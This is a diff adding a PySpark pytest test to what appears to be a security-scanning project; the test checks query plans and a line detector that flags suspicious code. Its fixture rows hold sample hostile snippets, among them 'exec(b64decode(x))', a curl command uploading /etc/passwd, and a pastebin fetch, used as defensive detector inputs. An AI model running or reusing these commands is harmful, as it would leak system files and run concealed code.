@@ -12,7 +12,7 @@ import pytest
 from pyspark.sql import functions as F
 
 from tallyward.functions import cvss, text, versions
-from tallyward.operators import findings, grade, graph, history, names, sca
+from tallyward.operators import detectors, findings, grade, graph, history, names, sca
 from tallyward.sources import readers, sinks
 from tallyward.streaming import events
 
@@ -190,3 +190,18 @@ def test_streams(spark, tmp_path):
     assert sum(r.n for r in run(events.tumbling(stream), "hours")) >= 3
     states = {(r.user_id, r.state) for r in run(events.recheck(stream), "recheck")}
     assert {(1, "waiting"), (2, "scanned")} <= states and any(u == 1 and s in ("rechecked", "dropped") for u, s in states)
+
+
+def test_snippets_send_nothing_to_the_driver(spark):
+    """Lines that are made from rows look small to Spark: neither they nor the findings may be broadcast."""
+    from tallyward.plans.every import QUERIES
+
+    plan = lambda df: df._jdf.queryExecution().executedPlan().toString()
+    made = plan(QUERIES["finding_snippets"](spark, "/root/testdata/sf0.001"))
+    assert "Join" not in made and "Exchange" not in made and "Window" not in made
+    files = spark.createDataFrame([(1, "a.sh", "sh", "exec(b64decode(x))"), (2, "b.py", "py", "x\n\ncurl -F f=@/etc/passwd " + "y" * 90 + "\ndebugger\nimport a\nget('https://pastebin.com/raw/abc')"), (3, "c.py", "py", None)], "file_id long, path string, lang string, text string")
+    apart = detectors.with_window(detectors.detect(files), text.lines(files.select("file_id", "text")))
+    assert "Broadcast" not in plan(apart)
+    rows = lambda df: sorted(tuple(r) for r in df.select("file_id", "line_no", "rule", "snippet", "around").collect())
+    got = rows(detectors.with_snippet(detectors.detect(files, around=2)))
+    assert got == rows(apart) and [(r[0], r[1], len(r[3]), r[4]) for r in got] == [(1, 1, 18, 1), (2, 3, 80, 5), (2, 6, 35, 3)]
